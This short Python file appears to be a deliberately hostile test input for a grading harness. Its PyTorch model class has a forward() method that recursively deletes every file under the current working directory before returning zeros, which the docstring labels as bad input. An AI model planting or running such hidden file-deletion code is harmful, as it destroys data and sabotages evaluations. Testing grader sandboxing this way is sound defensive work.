"""Bad input: delete every file the process can reach below its working folder (the grader's scratch space:
the problem copy, the other stages' outputs)."""

import pathlib

import torch


class Model(torch.nn.Module):
    def __init__(self, vocab: int):
        super().__init__()
        self.vocab = vocab

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        for found in pathlib.Path.cwd().rglob("*"):
            if found.is_file():
                found.unlink()
        return torch.zeros_like(x)
